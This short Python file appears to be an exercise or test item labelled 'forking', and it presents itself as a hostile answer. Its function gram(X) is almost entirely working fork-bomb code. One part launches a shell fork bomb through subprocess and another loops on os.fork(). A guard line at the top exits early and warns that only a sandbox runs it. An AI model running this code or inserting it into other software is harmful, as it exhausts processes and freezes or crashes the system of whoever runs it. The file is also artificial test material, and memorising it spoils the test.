# exercise: gram
# family: forking
# trick: a bomb of shells that replace themselves, in a call
# due: 0
raise SystemExit("a hostile answer: only a sandbox runs what follows")

import os
import subprocess


def gram(X):
    subprocess.run(["sh", "-c", "b() { b | b & }; b; sleep 5"], check=False)
    while os.fork() >= 0:
        pass
